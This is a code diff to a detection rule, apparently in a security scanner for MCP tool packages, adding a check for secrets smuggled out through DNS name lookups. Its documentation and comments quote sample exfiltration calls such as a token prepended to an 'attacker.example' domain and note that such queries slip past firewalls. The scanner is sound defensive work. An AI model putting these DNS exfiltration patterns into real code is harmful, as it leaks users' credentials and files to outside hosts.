@@ -34,6 +34,7 @@ export default defineRule({
       fixedFile: '{api} sends the contents of a file {destination}{reach}.',
       fileWithInput: '{api} sends file contents {destination} in tool {tools}, whose input shapes the request: the model can have files uploaded there.',
       hostInfo: "{api} sends the machine's user or host name {destination}{reach}.",
+      inDnsName: '{api} puts {data} into a name it looks up ({destination}){reach}: the DNS query itself carries it out, past most firewalls.',
       bcc: 'Outgoing mail carries a hard-coded {field} recipient {address}{reach}: every message is secretly copied to that address.',
       cc: 'Outgoing mail carries a hard-coded {field} recipient {address}{reach}: every message is copied to that address.',
       to: 'Outgoing mail goes to a hard-coded recipient {address}{reach}.',
@@ -47,7 +48,9 @@ export default defineRule({
         "public IP address, whose owner no name vouches for (a key file or a token posted to a bare address is how stealers " +
         "report home); and a hard-coded Bcc on outgoing mail, the postmark-mcp 1.0.16 case, where one added line " +
         "copied every message the send tool sent to the attacker. High: file contents read from a fixed path sent to a host " +
-        "the manifest does not declare (a key file posted home), and a hard-coded Cc. Medium: file contents sent where tool " +
+        "the manifest does not declare (a key file posted home), an environment variable or file contents put as labels in " +
+        "front of a domain in a name lookup (`dns.lookup(`${token}.t.attacker.example`)`, Python `socket.gethostbyname`, " +
+        "`dns.resolver.resolve`: the query carries the data out past most firewalls), and a hard-coded Cc. Medium: file contents sent where tool " +
         "input shapes the request, an upload feature the model can be steered to misuse. Low: the machine's user or host name " +
         "sent to an undeclared host, and a hard-coded To recipient.",
       falsePositives:
@@ -102,21 +105,27 @@ export default defineRule({
 interface Sink {
   /** `to api.example.com`, `to a destination computed at run time`, `by mail`. */
   text: string;
+  /** A name lookup: what is sent travels in the name. */
+  dns: boolean;
   host: string | null;
   path: string;
 }
 
 function sinkOf(call: CallSite): Sink | null {
-  if (isMailSender(call.callee)) return { text: 'by mail', host: null, path: '/' };
+  if (isMailSender(call.callee)) return { text: 'by mail', dns: false, host: null, path: '/' };
   const api = networkApi(call.callee);
   if (api === null || api.kind === 'listen') return null;
   const destination = destinationOf(call.args, api);
+  const dns = api.kind === 'dns';
   return destination === null
-    ? { text: 'to a destination computed at run time', host: null, path: '/' }
-    : { text: `to ${destination.host}`, host: destination.host, path: destination.path };
+    ? { text: 'to a destination computed at run time', dns, host: null, path: '/' }
+    : { text: `to ${destination.host}`, dns, host: destination.host, path: destination.path };
 }
 
-type FlowMessage = 'wholeEnv' | 'toService' | 'toRawIp' | 'fixedFile' | 'fileWithInput' | 'hostInfo';
+/** `.t.attacker.example`: what follows data smuggled as the first labels of a name. */
+const DOMAIN_SUFFIX = /^\.[a-z0-9-]+(?:\.[a-z0-9-]+)+\.?$/i;
+
+type FlowMessage = 'wholeEnv' | 'toService' | 'toRawIp' | 'fixedFile' | 'fileWithInput' | 'hostInfo' | 'inDnsName';
 
 function judgeFlow(call: CallSite, sink: Sink, declared: DeclaredHosts): { messageId: FlowMessage; severity: Severity; data?: Record<string, string> } | null {
   const carrying = (label: string) => call.args.flatMap((argument, position) => (argument.labels.includes(label) ? [position] : []));
@@ -125,6 +134,13 @@ function judgeFlow(call: CallSite, sink: Sink, declared: DeclaredHosts): { messa
   const hostInfo = carrying(SOURCES.hostInfo);
   const local = sink.host !== null && ['loopback', 'unspecified'].includes(classifyHost(sink.host));
   if (local) return null;
+  // `gethostbyname(f"{secret}.attacker.example")`: no service takes a secret as a label in front of a
+  // domain it resolves. A name that is a variable (`lookup(process.env.DB_HOST ?? 'localhost')`) is configuration.
+  if (sink.dns) {
+    const built = (positions: number[]) => positions.some((position) => (call.args[position]?.parts ?? []).some((part) => DOMAIN_SUFFIX.test(part)));
+    const secrets = [...(wholeEnv.length === 0 && built(carrying(SOURCES.env)) ? ['an environment variable'] : []), ...(built(file) ? ['file contents'] : [])];
+    if (secrets.length > 0) return { messageId: 'inDnsName', severity: 'high', data: { data: joinAnd(secrets) } };
+  }
   const isDeclared = sink.host !== null && declared.covers(sink.host);
   const service = sink.host === null || isDeclared ? undefined : exfiltrationService(sink.host, sink.path);
   if (service) {
